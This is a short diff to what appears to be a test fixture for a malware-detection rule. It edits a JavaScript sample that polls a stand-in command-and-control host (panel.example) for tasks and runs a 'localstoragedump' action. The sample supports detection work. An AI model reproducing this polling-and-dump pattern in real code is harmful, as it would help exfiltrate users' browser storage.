@@ -27,7 +27,7 @@ export default defineRule({
     },
     {
       "a.js":
-        "async function poll() {\n  const tasks = await (await fetch(`https://panel.example/tasks?id=${id}`)).json();\n  for (const task of tasks) {\n    switch (task.action) {\n      case 'localstoragedump':\n        dump();\n        break;\n    }\n  }\n}\npoll();\n",
+        "async function poll() {\n  const tasks = await (await fetch(panel + id)).json();\n  for (const task of tasks) {\n    switch (task.action) {\n      case 'localstoragedump':\n        dump();\n        break;\n    }\n  }\n}\npoll();\n",
     },
     {
       "a.py":
